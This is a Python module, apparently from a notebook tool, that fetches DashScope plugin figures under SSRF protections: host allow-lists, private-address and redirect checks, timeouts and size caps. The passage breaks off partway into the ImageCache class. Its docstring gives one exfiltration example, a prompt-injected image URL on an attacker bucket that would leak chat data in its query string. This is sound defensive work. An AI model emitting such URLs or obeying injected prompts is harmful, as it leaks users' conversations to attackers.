"""Fetch plugin figures once, safely, so notebooks embed bytes instead of signed URLs.

DashScope plugins answer with figure URLs: ``code_interpreter`` as Markdown
``![fig-001](https://dashscope-cn-beijing.oss-cn-beijing.aliyuncs.com/...png?OSSAccessKeyId=...&Signature=...)``,
``text_to_image`` as ``{"url": "http://dashscope-result-bj.oss-cn-beijing.aliyuncs.com/...png?Expires=...&Signature=..."}``.
Those URLs are signed and expire within hours, and the query string is a bearer capability. So a
renderer fetches each figure **once**, embeds the bytes, and only ever shows :func:`display_url`
(scheme, host and path; no query, fragment or user info).

The URLs come from model output, i.e. from whoever can influence a prompt, so fetching them is an
SSRF surface (ecosystem notes §5.3). :func:`fetch_image` therefore:

* fetches ``http``/``https`` only, refuses ``user:pw@`` URLs, and only hosts on the allow-list
  (:attr:`ImagePolicy.hosts`, a leading dot meaning "any subdomain"). The default,
  :data:`DEFAULT_IMAGE_HOSTS`, is the two OSS buckets DashScope itself writes plugin output to, not
  ``.aliyuncs.com``: anyone can create a bucket there, so a prompt-injected
  ``https://attacker.oss-cn-beijing.aliyuncs.com/pixel.png?d=<chat data>`` would otherwise be
  fetched with no click. Other links are shown, unfetched, with the reason;
* uses https for every host except the *trusted* ones (the configured DashScope base URL, e.g. the
  loopback fake). A plain ``http://`` URL on an allow-listed host is **upgraded** to https rather
  than refused: DashScope's own ``text_to_image`` example links ``http://…aliyuncs.com``, and OSS
  serves the same object over both, so refusing would break the vendor's documented output while
  fetching over http would send the signature in clear text;
* resolves every non-trusted host and refuses it if any address is not globally routable
  (loopback, RFC 1918, link-local ``169.254.169.254``, ``192.0.0.0/24``, multicast, ...). IPv6
  forms that carry an IPv4 address (IPv4-mapped and -compatible, NAT64 ``64:ff9b::/96``, 6to4
  ``2002::/16``) are judged by the IPv4 address they carry; Teredo and local-use NAT64
  (``64:ff9b:1::/48``) are refused. Only trusted hosts may be loopback or private, which is what
  makes the local fake work;
* never lets ``requests`` follow redirects: every hop is checked with the same rules, at most
  :attr:`ImagePolicy.max_redirects` of them, and a redirect from an untrusted host *into* a trusted
  one is refused (trust does not travel along a redirect chain);
* times out (:attr:`ImagePolicy.timeout` per connect/read, :attr:`ImagePolicy.total_timeout` for
  the whole fetch: every body read is bounded by the time left, and a watchdog shuts the socket at
  the deadline, so a server dripping a byte at a time cannot stretch it), caps the body
  (``Content-Length`` up front and again while streaming), requires an
  ``image/*`` content type other than SVG, and sniffs the magic bytes (PNG, JPEG, GIF, WEBP only);
  the MIME type reported is the sniffed one, never the header's;
* never sends credentials. The request is built here (``requests.Request(...).prepare()``) and handed
  to the session's *adapter*, so session-level headers, ``auth``, cookies and ``~/.netrc`` are never
  merged in, and ``Authorization``/``Cookie`` are stripped again before sending. (``Session.send``
  is avoided on purpose: with ``allow_redirects=False`` it still reads a redirect's whole body to
  compute ``Response.next``, with no size limit.) A session created here has ``trust_env=False``:
  no netrc credentials and no proxy or CA-bundle settings from the environment. Pass your own
  session (its ``proxies``, ``verify``, ``cert`` and adapters are used) if you need a proxy.
* in replay mode (:attr:`ImagePolicy.offline`, a session whose adapter answers from recordings)
  skips only the name resolution; every other rule applies to the recorded answers too.

:func:`fetch_image` never raises: every failure is a :class:`FetchedImage` whose ``error`` is one
short sentence (never containing the query string). :class:`ImageCache` (one per trace) also caps
the bytes embedded per trace (:attr:`ImagePolicy.max_total_bytes`); figures past that budget are
shown as links with a note. Residual risks, accepted with a narrow allow-list: DNS rebinding
between the address check and the connect, a blocking ``getaddrinfo`` (the OS resolver has its own
timeout), and a server that drips its *headers* (each read is bounded by the time left, but the
watchdog starts with the body). Through a proxy the address check is advisory, since the proxy
resolves the name.

``requests`` is imported inside the functions that use it, so ``import dashmagic.images`` is cheap.
"""

from __future__ import annotations

import ipaddress
import re
import socket
import threading
import time
from dataclasses import dataclass, field
from collections.abc import Callable, Iterable, Iterator
from typing import TYPE_CHECKING, Any, Literal, Union
from urllib.parse import urljoin, urlsplit

from .errors import ConfigError
from ._constants import DEFAULT_IMAGE_HOSTS
from ._urls import display_url
from .trace import FetchedImage, Figure

if TYPE_CHECKING:  # pragma: no cover - typing only
    import requests

__all__ = [
    "new_image_session",
    "ImageMime",
    "FetchedImage",
    "ImagePolicy",
    "ImageRefused",
    "ImageCache",
    "DEFAULT_IMAGE_HOSTS",
    "DEFAULT_MAX_BYTES",
    "DEFAULT_TIMEOUT",
    "DEFAULT_MAX_REDIRECTS",
    "DEFAULT_TOTAL_TIMEOUT",
    "DEFAULT_MAX_TOTAL_BYTES",
    "MAX_URL_LENGTH",
    "Fetcher",
    "display_url",
    "check_url",
    "sniff_mime",
    "fetch_image",
    "budget_note",
]

ImageMime = Literal["image/png", "image/jpeg", "image/gif", "image/webp"]

#: Per-image byte cap. base64 in the .ipynb costs x1.33 on top (ecosystem notes §2.3).
DEFAULT_MAX_BYTES = 5 * 1024 * 1024
#: Seconds allowed for the connect and for each read.
DEFAULT_TIMEOUT = 10.0
DEFAULT_MAX_REDIRECTS = 3
#: Seconds allowed for a whole fetch, redirects included (a slow drip never trips a read timeout).
DEFAULT_TOTAL_TIMEOUT = 60.0
#: Bytes embedded per trace, all figures together (60 distinct 1 MB figures made an 80 MB output).
#: A trace usually has one to three figures of 20-200 KB, so this only stops runaway output.
DEFAULT_MAX_TOTAL_BYTES = 20 * 1024 * 1024

#: Longer URLs are refused before parsing; signed OSS URLs are a few hundred characters.
MAX_URL_LENGTH = 8192

_CHUNK_SIZE = 65536
_DEFAULT_PORTS = {"http": 80, "https": 443}
_REDIRECT_STATUSES = frozenset({301, 302, 303, 307, 308})
# Built per request; no session header is ever merged in. ``identity`` keeps the byte cap honest.
_REQUEST_HEADERS = {
    "Accept": "image/png, image/jpeg, image/gif, image/webp",
    "Accept-Encoding": "identity",
    "User-Agent": "dashmagic-image-fetch",
}
_SECRET_HEADERS = ("Authorization", "Proxy-Authorization", "Cookie")
_HOST_LABELS = re.compile(r"[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?(?:\.[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?)*")



class ImageRefused(ValueError):
    """A figure URL, or the answer to it, broke a rule. ``str(e)`` is the short reason."""


# --------------------------------------------------------------------------------------------
# Result type and display
# --------------------------------------------------------------------------------------------


def sniff_mime(data: bytes) -> ImageMime | None:
    """The image type the magic bytes say, or None for anything else (HTML, SVG, XML errors...)."""
    if data.startswith(b"\x89PNG\r\n\x1a\n"):
        return "image/png"
    if data.startswith(b"\xff\xd8\xff"):
        return "image/jpeg"
    if data.startswith((b"GIF87a", b"GIF89a")):
        return "image/gif"
    if len(data) >= 12 and data[:4] == b"RIFF" and data[8:12] == b"WEBP":
        return "image/webp"
    return None


# --------------------------------------------------------------------------------------------
# Policy
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ImagePolicy:
    """Which figure URLs may be fetched, and how much of them.

    ``hosts``: the allow-list (default :data:`DEFAULT_IMAGE_HOSTS`, DashScope's own output
    buckets). An entry starting with ``.`` matches any subdomain
    (``.aliyuncs.com`` matches ``x.aliyuncs.com``, not ``aliyuncs.com.evil.example``,
    ``evilaliyuncs.com`` or the bare ``aliyuncs.com``), on any port. Other entries are exact host
    names or IP literals, optionally with ``:port``. Matching is case-insensitive. These hosts are
    fetched over https only and must resolve to public addresses.

    ``trusted_hosts``: exact ``host[:port]`` of the configured DashScope base URL (see
    :meth:`for_base_url`). Only these may use plain http or a loopback/private address, which is
    what the local fake (``127.0.0.1:PORT``) needs. They need not be on ``hosts``.

    ``offline``: the session given to :func:`fetch_image` answers from recordings and never opens
    a connection (replay mode), so host names are not resolved: the address check guards real
    connections, and offline there are none (and no DNS either). Every other rule still applies.
    Never set it with a session that reaches the network.

    ``max_total_bytes``: the figure budget of one trace, enforced by :class:`ImageCache` (one cache
    per trace): once the figures embedded so far use it up, the rest are shown as links.
    """

    hosts: tuple[str, ...] = DEFAULT_IMAGE_HOSTS
    trusted_hosts: tuple[str, ...] = ()
    max_bytes: int = DEFAULT_MAX_BYTES
    timeout: float = DEFAULT_TIMEOUT
    max_redirects: int = DEFAULT_MAX_REDIRECTS
    total_timeout: float = DEFAULT_TOTAL_TIMEOUT
    offline: bool = False
    max_total_bytes: int = DEFAULT_MAX_TOTAL_BYTES

    def __post_init__(self) -> None:
        object.__setattr__(self, "hosts", _normalize_entries(self.hosts, "image_hosts", allow_suffix=True))
        object.__setattr__(
            self, "trusted_hosts", _normalize_entries(self.trusted_hosts, "trusted_hosts", allow_suffix=False)
        )
        for name in ("max_bytes", "max_total_bytes"):
            value = getattr(self, name)
            if not isinstance(value, int) or isinstance(value, bool) or value <= 0:
                raise ConfigError(f"{name} must be a positive number of bytes, not {value!r}")
        for name in ("timeout", "total_timeout"):
            value = getattr(self, name)
            if not isinstance(value, (int, float)) or not value > 0:
                raise ConfigError(f"{name} must be a positive number of seconds, not {value!r}")
        if not isinstance(self.max_redirects, int) or self.max_redirects < 0:
            raise ConfigError(f"max_redirects must be 0 or more, not {self.max_redirects!r}")

    @classmethod
    def for_base_url(
        cls,
        base_url: str,
        *,
        hosts: Iterable[str] = DEFAULT_IMAGE_HOSTS,
        max_bytes: int = DEFAULT_MAX_BYTES,
        timeout: float = DEFAULT_TIMEOUT,
        max_redirects: int = DEFAULT_MAX_REDIRECTS,
        total_timeout: float = DEFAULT_TOTAL_TIMEOUT,
        offline: bool = False,
        max_total_bytes: int = DEFAULT_MAX_TOTAL_BYTES,
    ) -> ImagePolicy:
        """A policy that trusts the ``host:port`` of the DashScope base URL in use.

        ``http://127.0.0.1:8123/api/v1`` gives ``trusted_hosts=("127.0.0.1:8123",)``; a base URL
        without a port gets its scheme's default (``dashscope.aliyuncs.com:443``).
        """
        try:
            parts = urlsplit(str(base_url).strip())
            port = parts.port
        except ValueError:
            raise ConfigError(f"base URL {display_url(base_url)!r} is not a valid URL") from None
        scheme = parts.scheme.lower()
        if scheme not in _DEFAULT_PORTS or not parts.hostname:
            raise ConfigError(f"base URL {display_url(base_url)!r} must be an http(s) URL with a host")
        trusted = _join_host_port(parts.hostname.lower().rstrip("."), port or _DEFAULT_PORTS[scheme])
        return cls(
            hosts=(hosts,) if isinstance(hosts, str) else tuple(hosts),
            trusted_hosts=(trusted,),
            max_bytes=max_bytes,
            timeout=timeout,
            max_redirects=max_redirects,
            total_timeout=total_timeout,
            offline=offline,
            max_total_bytes=max_total_bytes,
        )

    def is_trusted(self, host: str, port: int) -> bool:
        """Is ``host`` (normalized) on ``port`` the configured DashScope host?"""
        return any(_exact_match(entry, host, port) for entry in self.trusted_hosts)

    def is_allowed(self, host: str, port: int) -> bool:
        """Is ``host`` (normalized) on ``port`` on the allow-list? Trusted hosts are not implied."""
        for entry in self.hosts:
            if entry.startswith("."):
                if not _is_ip_literal(host) and host.endswith(entry):
                    return True
            elif _exact_match(entry, host, port):
                return True
        return False


def _normalize_entries(entries: Iterable[str], name: str, *, allow_suffix: bool) -> tuple[str, ...]:
    """Lower-case and validate allow-list entries once, so matching is a plain comparison."""
    if isinstance(entries, str):
        entries = (entries,)
    out: list[str] = []
    for raw in entries:
        entry = str(raw).strip().lower()
        if allow_suffix and entry.startswith("."):
            if not _HOST_LABELS.fullmatch(entry[1:]):
                raise ConfigError(f"{name} entry {raw!r} is not a domain suffix like '.aliyuncs.com'")
        else:
            try:
                _split_entry(entry)
            except ValueError:
                raise ConfigError(f"{name} entry {raw!r} is not a host name or host:port") from None
        out.append(entry)
    return tuple(out)


def _split_entry(entry: str) -> tuple[str, int | None]:
    """``"host"``, ``"host:port"`` or ``"[v6]:port"`` → (normalized host, port or None)."""
    parts = urlsplit("//" + entry)
    port = parts.port
    if not parts.hostname or parts.netloc != entry or "@" in entry:
        raise ValueError(entry)
    return _normalize_host(parts.hostname), port


def _exact_match(entry: str, host: str, port: int) -> bool:
    entry_host, entry_port = _split_entry(entry)
    return entry_host == host and (entry_port is None or entry_port == port)


def _is_ip_literal(host: str) -> bool:
    try:
        ipaddress.ip_address(host)
    except ValueError:
        return False
    return True


def _normalize_host(hostname: str | None) -> str:
    """Lower-case, drop a trailing dot, and accept only plain ASCII names or IP literals.

    Refusing anything unusual (percent-escapes, backslashes, non-ASCII) means the host checked here
    is the host ``requests``/``urllib3`` will connect to; parser differences are a classic bypass.
    """
    host = (hostname or "").lower()
    if host.endswith(".") and not host.endswith(".."):
        host = host[:-1]
    if _is_ip_literal(host):
        return host
    if len(host) > 253 or not _HOST_LABELS.fullmatch(host):
        raise ImageRefused("the URL has no valid host name" if not host else "the URL's host name is not valid")
    return host


def _join_host_port(host: str, port: int | None) -> str:
    shown = f"[{host}]" if ":" in host else host
    return shown if port is None else f"{shown}:{port}"


# --------------------------------------------------------------------------------------------
# URL checks (no I/O)
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Target:
    url: str = field(repr=False)  # what is requested: rebuilt, no user info, no fragment
    scheme: str
    host: str
    port: int
    trusted: bool


def check_url(url: str, policy: ImagePolicy, *, redirected_from: str | None = None) -> str:
    """The URL :func:`fetch_image` would request for ``url``, or :class:`ImageRefused`.

    The static rules only (no DNS): scheme, user info, allow-list, and the http → https upgrade
    for non-trusted hosts. The result is rebuilt from the parsed parts (no fragment, no user info;
    the query is kept byte for byte because the signature covers it). ``redirected_from`` is the
    URL that redirected here: messages then say so, and a hop from an untrusted host into a
    trusted one is refused.
    """
    source = _vet(redirected_from, policy) if redirected_from is not None else None
    return _vet(url, policy, redirect_from=source).url


def _vet(url: object, policy: ImagePolicy, *, redirect_from: _Target | None = None) -> _Target:
    scheme, host, port, path, query = _parse(url)
    effective_port = port or _DEFAULT_PORTS[scheme]
    trusted = policy.is_trusted(host, effective_port)
    if trusted and redirect_from is not None and not redirect_from.trusted:
        raise ImageRefused(f"redirect from {redirect_from.host} to the configured DashScope host is not followed")
    if not trusted and not policy.is_allowed(host, effective_port):
        if redirect_from is not None:
            raise ImageRefused(f"redirect to a host not on the allow-list ({host})")
        raise ImageRefused(
            f"not fetched automatically: host {host} is not one DashScope uses for plugin output;"
            " add it to the image_hosts allow-list to fetch it"
        )
    if scheme == "http" and not trusted:
        # Upgrade rather than refuse: see the module docstring.
        scheme, port = "https", (None if port == 80 else port)
        effective_port = port or 443
    netloc = _join_host_port(host, port)
    rebuilt = f"{scheme}://{netloc}{path or '/'}" + (f"?{query}" if query else "")
    return _Target(url=rebuilt, scheme=scheme, host=host, port=effective_port, trusted=trusted)


def _parse(url: object) -> tuple[str, str, int | None, str, str]:
    """(scheme, normalized host, explicit port, path, query) of an acceptable-looking URL."""
    if not isinstance(url, str) or not url:
        raise ImageRefused("empty URL" if url in ("", None) else "the URL is not text")
    if len(url) > MAX_URL_LENGTH:
        raise ImageRefused(f"the URL is too long ({len(url)} characters)")
    if any(ord(ch) <= 0x20 or ord(ch) == 0x7F for ch in url):
        raise ImageRefused("the URL contains spaces or control characters")
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        raise ImageRefused("malformed URL") from None
    scheme = parts.scheme.lower()
    if scheme not in _DEFAULT_PORTS:
        shown = f"{scheme[:20]}:" if scheme else "a URL without a scheme"
        raise ImageRefused(f"only http(s) figure URLs are fetched, not {shown}")
    if "@" in parts.netloc:
        raise ImageRefused("URLs with a user name or password are not fetched")
    if port == 0:
        raise ImageRefused("malformed URL (port 0)")
    return scheme, _normalize_host(parts.hostname), port, parts.path, parts.query


def _check_addresses(host: str, port: int) -> None:
    """Refuse ``host`` unless every address it resolves to is globally routable."""
    try:
        addresses = _resolve(host, port)
    except (OSError, UnicodeError, ValueError):
        raise ImageRefused(f"could not resolve host {host}") from None
    if not addresses:
        raise ImageRefused(f"could not resolve host {host}")
    for address in addresses:
        if not _is_global(address):
            raise ImageRefused(f"host {host} resolves to a non-public address ({address})")


def _resolve(host: str, port: int) -> list[str]:
    """All addresses ``host`` resolves to (a seam the tests replace)."""
    infos = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)
    return [str(info[4][0]) for info in infos]


def _is_global(address: str) -> bool:
    """Is ``address`` one a figure may come from? ``ip.is_global`` alone is not enough: it calls
    ``64:ff9b::7f00:1`` (NAT64 of 127.0.0.1), ``2002:7f00:1::1`` (6to4), ``::7f00:1`` and
    ``192.0.0.8`` global, and translators or relays on the way turn those into loopback."""
    try:
        ip = ipaddress.ip_address(address.split("%", 1)[0])
    except ValueError:
        return False
    if isinstance(ip, ipaddress.IPv6Address):
        if any(ip in net for net in _REFUSED_V6):
            return False
        embedded = _embedded_ipv4(ip)
        if embedded is not None:
            ip = embedded
    if isinstance(ip, ipaddress.IPv4Address) and ip in _IETF_PROTOCOL_V4:
        return False
    return ip.is_global and not ip.is_multicast


def _embedded_ipv4(ip: ipaddress.IPv6Address) -> ipaddress.IPv4Address | None:
    """The IPv4 address an IPv6 form carries (mapped, compatible, SIIT, NAT64, 6to4), if any."""
    if ip.ipv4_mapped is not None:
        return ip.ipv4_mapped
    if ip.sixtofour is not None:
        return ip.sixtofour
    if any(ip in net for net in _LAST_32_BITS_V4):
        return ipaddress.IPv4Address(int(ip) & 0xFFFFFFFF)
    return None


# IPv6 prefixes whose last 32 bits are an IPv4 address: NAT64 (RFC 6052), IPv4-compatible
# (deprecated, includes :: and ::1, which then count as 0.0.0.0 and 0.0.0.1) and SIIT (RFC 2765).
_LAST_32_BITS_V4 = tuple(ipaddress.IPv6Network(n) for n in ("64:ff9b::/96", "::/96", "::ffff:0:0:0/96"))
# Refused outright: Teredo (2001::/32) tunnels to an address of the relay's choosing, local-use
# NAT64 (RFC 8215) places the IPv4 address wherever the operator chose, and deprecated site-local
# fec0::/10 is routed inside a site although is_global says True.
_REFUSED_V6 = tuple(ipaddress.IPv6Network(n) for n in ("2001::/32", "64:ff9b:1::/48", "fec0::/10"))
# IETF protocol assignments (RFC 6890): 192.0.0.8/.9/.10 are not figure hosts whatever is_global says.
_IETF_PROTOCOL_V4 = ipaddress.IPv4Network("192.0.0.0/24")


# --------------------------------------------------------------------------------------------
# Fetching
# --------------------------------------------------------------------------------------------


def fetch_image(
    url: str, policy: ImagePolicy, *, session: requests.Session | None = None, budget: int | None = None
) -> FetchedImage:
    """Fetch one figure URL under ``policy``. Never raises: failures come back as ``error``.

    ``session`` lends its connection pool, ``proxies``, ``verify`` and ``cert``; never its headers,
    auth or cookies (so a session that carries the DashScope key cannot leak it). Without one, a
    fresh ``trust_env=False`` session is used and closed. ``budget``: bytes left of the trace's
    figure budget (:class:`ImageCache` passes it); a bigger body is abandoned as soon as that is
    known, with :func:`budget_note` as the error.
    """
    text = url if isinstance(url, str) else repr(url)
    shown = display_url(text)
    try:
        data, mime = _fetch(url, policy, session, _cap_for(policy, budget))
    except ImageRefused as exc:
        return FetchedImage(url=text, display_url=shown, error=str(exc))
    except Exception as exc:  # noqa: BLE001 - the contract is "never raises"
        return FetchedImage(url=text, display_url=shown, error=f"unexpected {type(exc).__name__} while fetching")
    return FetchedImage(url=text, display_url=shown, data=data, mime=mime)


@dataclass(frozen=True, slots=True)
class _Cap:
    """How many body bytes may be read, and what to say when there are more."""

    size: int
    message: str


def _cap_for(policy: ImagePolicy, budget: int | None) -> _Cap:
    if budget is not None and budget < policy.max_bytes:
        return _Cap(max(budget, 0), budget_note(policy.max_total_bytes))
    return _Cap(policy.max_bytes, f"exceeds the {_format_size(policy.max_bytes)} limit")


def budget_note(max_total_bytes: int) -> str:
    """The reason shown for a figure left out because the trace's figure budget is spent."""
    return f"not embedded: this trace's figure budget of {_format_size(max_total_bytes)} is used up"


def _fetch(
    url: object, policy: ImagePolicy, session: requests.Session | None, cap: _Cap
) -> tuple[bytes, ImageMime]:
    """Follow at most ``max_redirects`` redirects by hand, checking every hop."""
    target = _vet(url, policy)
    deadline = time.monotonic() + policy.total_timeout
    own = session is None
    if session is None:
        session = new_image_session()
    try:
        for _hop in range(policy.max_redirects + 1):
            if not target.trusted and not policy.offline:
                _check_addresses(target.host, target.port)
            response = _send(session, target, policy, deadline)
            try:
                if response.status_code not in _REDIRECT_STATUSES:
                    return _read_image(response, target, policy, deadline, cap)
                target = _next_hop(response, target, policy)
            finally:
                response.close()
        raise ImageRefused(f"more than {policy.max_redirects} redirects")
    finally:
        if own:
            session.close()


def new_image_session() -> requests.Session:
    """A session for figures only (never the DashScope one, so never the key). ``trust_env=False``:
    never pick up ~/.netrc credentials, env proxies or env CA bundles."""
    import requests

    session = requests.Session()
    session.trust_env = False
    return session


def _send(session: requests.Session, target: _Target, policy: ImagePolicy, deadline: float) -> requests.Response:
    """One GET, built here and given to the adapter, so nothing session-level is merged in."""
    import requests
    from requests.utils import resolve_proxies

    remaining = deadline - time.monotonic()
    if remaining <= 0:
        raise ImageRefused(_took_too_long(policy))
    try:
        prepared = requests.Request("GET", target.url, headers=dict(_REQUEST_HEADERS)).prepare()
    except (requests.RequestException, ValueError, UnicodeError):
        raise ImageRefused("malformed URL") from None
    for name in _SECRET_HEADERS:
        prepared.headers.pop(name, None)
    _confirm_destination(prepared.url or "", target)
    try:
        adapter = session.get_adapter(prepared.url or "")
        proxies = resolve_proxies(prepared, dict(session.proxies), session.trust_env)
        return adapter.send(
            prepared,
            stream=True,
            timeout=min(policy.timeout, remaining),
            verify=True if session.verify is None else session.verify,
            cert=session.cert,
            proxies=proxies,
        )
    except Exception as exc:  # noqa: BLE001 - classified into one sentence
        if remaining < policy.timeout and _is_timeout(exc):
            raise ImageRefused(_took_too_long(policy)) from None  # the deadline, not the read timeout
        raise ImageRefused(_describe(exc, target.host, policy)) from None


def _confirm_destination(prepared_url: str, target: _Target) -> None:
    """Refuse if ``requests`` would talk to another host than the one that was checked."""
    try:
        parts = urlsplit(prepared_url)
        port = parts.port or _DEFAULT_PORTS.get(parts.scheme, 0)
        same = parts.scheme == target.scheme and _normalize_host(parts.hostname) == target.host and port == target.port
    except (ValueError, ImageRefused):
        same = False
    if not same:
        raise ImageRefused("the URL would be sent to another host than the one checked")


def _next_hop(response: requests.Response, target: _Target, policy: ImagePolicy) -> _Target:
    location = response.headers.get("Location")
    if not location:
        raise ImageRefused(f"server answered HTTP {response.status_code} without a Location")
    try:
        next_url = urljoin(target.url, location.strip())
    except ValueError:
        raise ImageRefused("malformed redirect") from None
    return _vet(next_url, policy, redirect_from=target)


def _read_image(
    response: requests.Response, target: _Target, policy: ImagePolicy, deadline: float, cap: _Cap
) -> tuple[bytes, ImageMime]:
    """Check status and headers, stream the body under the cap, then sniff the bytes."""
    if response.status_code != 200:
        raise ImageRefused(f"server answered HTTP {response.status_code}")
    content_type = _content_type(response.headers.get("Content-Type"))
    if content_type is not None and "svg" in content_type:
        raise ImageRefused("SVG images are not embedded")
    if content_type is not None and not content_type.startswith("image/"):
        raise ImageRefused(f"not an image (content type {content_type})")
    announced = _content_length(response.headers.get("Content-Length"))
    if announced is not None and announced > policy.max_bytes:
        raise ImageRefused(f"exceeds the {_format_size(policy.max_bytes)} limit")
    if announced is not None and announced > cap.size:
        raise ImageRefused(cap.message)  # over the trace's budget: not one byte of it is read
    data = _read_capped(response.raw, target, policy, deadline, cap)
    mime = sniff_mime(data)
    if mime is None:
        if _looks_like_svg(data):
            raise ImageRefused("SVG images are not embedded")
        label = f" (content type {content_type})" if content_type else ""
        raise ImageRefused(f"not a PNG, JPEG, GIF or WEBP image{label}")
    return data, mime


def _read_capped(raw: Any, target: _Target, policy: ImagePolicy, deadline: float, cap: _Cap) -> bytes:
    """The body, read in pieces of at most one socket read each, each bounded by the time left.

    ``iter_content(64 KB)`` would block until 64 KB arrived, so a server sending a byte every
    0.2 s stretched a 60 s limit to minutes. The watchdog covers what a per-read timeout cannot
    (e.g. a chunk-size line dripped byte by byte inside one read).
    """
    buffer = bytearray()
    sock = _socket_of(raw)
    with _Watchdog(sock, deadline) as watchdog:
        while True:
            bound = deadline - time.monotonic()
            if bound <= 0 or watchdog.fired:
                raise ImageRefused(_took_too_long(policy))
            bound = min(bound, policy.timeout)
            try:
                if sock is not None:
                    sock.settimeout(bound)
                chunk = _read_some(raw)
            except Exception as exc:  # noqa: BLE001 - classified into one sentence
                if watchdog.fired or (bound < policy.timeout and _is_timeout(exc)):
                    raise ImageRefused(_took_too_long(policy)) from None
                raise ImageRefused(_describe(exc, target.host, policy)) from None
            if watchdog.fired:  # the shut socket reads as the end of the body: it is not one
                raise ImageRefused(_took_too_long(policy))
            if not chunk:
                return bytes(buffer)
            buffer += chunk
            if len(buffer) > cap.size:
                raise ImageRefused(cap.message)


def _took_too_long(policy: ImagePolicy) -> str:
    return f"took longer than {policy.total_timeout:g} s in total"


def _read_some(raw: Any) -> bytes:
    """At most ``_CHUNK_SIZE`` bytes, from at most one socket read (``read1``), decoded as
    ``iter_content`` decodes them (urllib3 responses and recording bodies have ``stream``)."""
    decodes = hasattr(raw, "stream")
    reader = getattr(raw, "read1", None)
    if reader is None:
        data = raw.read(_CHUNK_SIZE, decode_content=True) if decodes else raw.read(_CHUNK_SIZE)
    else:
        data = reader(_CHUNK_SIZE, decode_content=True) if decodes else reader(_CHUNK_SIZE)
    return bytes(data or b"")


def _socket_of(raw: Any) -> socket.socket | None:
    """The socket under a urllib3 response (None for recordings and in-memory bodies)."""
    sock = getattr(getattr(raw, "connection", None), "sock", None)
    return sock if isinstance(sock, socket.socket) else None


class _Watchdog:
    """Shuts ``sock`` down at ``deadline`` so that any read blocked on it returns at once."""

    def __init__(self, sock: socket.socket | None, deadline: float) -> None:
        self._sock = sock
        self._fired = threading.Event()
        self._timer: threading.Timer | None = None
        if sock is not None:
            self._timer = threading.Timer(max(deadline - time.monotonic(), 0.0), self._fire)
            self._timer.daemon = True

    @property
    def fired(self) -> bool:
        return self._fired.is_set()

    def _fire(self) -> None:
        self._fired.set()
        try:
            # The plain socket's shutdown, also for TLS: SSLSocket.shutdown would also drop the
            # SSL object under the reading thread's feet.
            socket.socket.shutdown(self._sock, socket.SHUT_RDWR)  # type: ignore[arg-type]
        except OSError:
            pass  # already closed: nothing is blocked on it

    def __enter__(self) -> _Watchdog:
        if self._timer is not None:
            self._timer.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        if self._timer is not None:
            self._timer.cancel()


def _content_type(value: str | None) -> str | None:
    main = (value or "").split(";", 1)[0].strip().lower()
    if not main:
        return None
    return re.sub(r"[^a-z0-9.+/_-]", "?", main[:60])


def _content_length(value: str | None) -> int | None:
    try:
        return int(value) if value is not None else None
    except ValueError:
        return None  # the streaming cap still applies


def _looks_like_svg(data: bytes) -> bool:
    head = data[:512].lstrip().lower()
    return head.startswith(b"<svg") or (head.startswith(b"<?xml") and b"<svg" in head)


def _format_size(size: int) -> str:
    mib, kib = 1024 * 1024, 1024
    if size >= mib:
        return f"{size // mib} MB" if size % mib == 0 else f"{size / mib:.1f} MB"
    if size >= kib and size % kib == 0:
        return f"{size // kib} KB"
    return f"{size} B"


def _describe(exc: BaseException, host: str, policy: ImagePolicy) -> str:
    """One sentence for a transport failure. ``str(exc)`` is never used: it contains the query."""
    import requests

    chain = list(_causes(exc))
    if _is_timeout(exc):
        return f"timed out after {policy.timeout:g} s"
    if isinstance(exc, requests.exceptions.SSLError):
        return f"TLS handshake with {host} failed"
    if isinstance(exc, requests.exceptions.ProxyError):
        return f"could not reach {host} through the proxy"
    if isinstance(exc, (requests.exceptions.ChunkedEncodingError, requests.exceptions.ContentDecodingError)):
        return f"the connection to {host} broke while reading the image"
    if isinstance(exc, requests.ConnectionError):
        reason = next((_REASONS[type(e)] for e in chain if type(e) in _REASONS), None)
        return f"could not connect to {host}" + (f" ({reason})" if reason else "")
    return f"could not fetch from {host} ({type(exc).__name__})"


def _is_timeout(exc: BaseException) -> bool:
    import requests

    chain = list(_causes(exc))
    return (
        isinstance(exc, requests.Timeout)
        or any(isinstance(e, (socket.timeout, TimeoutError)) for e in chain)
        or any(type(e).__name__ in ("ReadTimeoutError", "ConnectTimeoutError") for e in chain)
    )


_REASONS: dict[type[BaseException], str] = {
    ConnectionRefusedError: "connection refused",
    ConnectionResetError: "connection reset",
    ConnectionAbortedError: "connection aborted",
    BrokenPipeError: "connection closed",
    socket.gaierror: "name not resolved",
}


def _causes(exc: BaseException) -> Iterator[BaseException]:
    """``exc`` and everything it wraps (``__cause__``, ``__context__``, exception args, ``.reason``)."""
    pending: list[BaseException] = [exc]
    seen: set[int] = set()
    while pending and len(seen) < 32:
        current = pending.pop()
        if id(current) in seen:
            continue
        seen.add(id(current))
        yield current
        linked: list[Any] = [current.__cause__, current.__context__, getattr(current, "reason", None), *current.args]
        pending.extend(item for item in linked if isinstance(item, BaseException))


# --------------------------------------------------------------------------------------------
# Cache
# --------------------------------------------------------------------------------------------

#: What :class:`ImageCache` calls to fetch one URL (default: :func:`fetch_image` with its policy).
Fetcher = Callable[[str], FetchedImage]


class ImageCache:
    """Fetch each figure URL at most once, so a streaming re-render never refetches.

    Results are kept whether they succeeded or not: a signed URL that failed once (expired, off the
    allow-list, too big) will not succeed on the next render, and retrying would hammer the host.
    Thread-safe: concurrent callers asking for the same URL wait for the single fetch in flight.
    ``fetcher`` replaces :func:`fetch_image` (e.g. demo mode or renderer tests).

    One cache serves one trace, and holds its figure budget (:attr:`ImagePolicy.max_total_bytes`):
    figures are charged in the order they are first fetched, and one that does not fit in what is
    left is not embedded (:func:`budget_note`). Once the budget is spent nothing more is fetched.
    """

    def __init__(
        self,
        policy: ImagePolicy,
        *,
        session: requests.Session | None = None,
        fetcher: Fetcher | None = None,
    ) -> None:
        self.policy = policy
        self.session = session
        self._fetcher = fetcher
        self._lock = threading.Lock()
        self._results: dict[str, FetchedImage] = {}
        self._in_flight: dict[str, threading.Event] = {}
        self._embedded = 0  # bytes of the successful results, charged against the budget

    def fetch(self, url: Union[str, Figure]) -> FetchedImage:
